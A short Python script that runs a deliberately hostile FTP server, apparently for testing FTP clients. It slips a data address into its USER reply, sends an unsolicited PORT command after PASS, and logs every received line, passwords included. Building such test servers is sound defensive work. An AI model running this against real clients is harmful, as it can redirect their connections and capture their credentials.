"""An FTP server that attacks its clients: hostile_server.py LISTEN_ADDR LOG

Its reply to USER carries a data address inside a line that announces none (slipstreaming),
and its reply to PASS is a PORT command (a command from the server's side). Everything else
is answered normally. Lines received are appended to LOG.
"""
import socket
import sys

listen_addr, log_path = sys.argv[1:3]
h = listen_addr.replace(".", ",")

server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind((listen_addr, 21))
server.listen(4)
while True:
    conn, _ = server.accept()
    reader = conn.makefile("rb")
    conn.sendall(b"220 hostile server\r\n")
    while True:
        line = reader.readline()
        if not line:
            break
        with open(log_path, "a") as log:
            log.write(line.decode(errors="replace"))
        verb = line.decode(errors="replace").split(" ")[0].strip().upper()
        if verb == "USER":
            conn.sendall(f"331 Password for user at {h},4,1 please.\r\n".encode())
        elif verb == "PASS":
            conn.sendall(f"PORT {h},4,2\r\n".encode())
            conn.sendall(b"230 Logged in.\r\n")
        elif verb == "QUIT":
            conn.sendall(b"221 Bye.\r\n")
            break
        else:
            conn.sendall(b"200 OK.\r\n")
    conn.close()
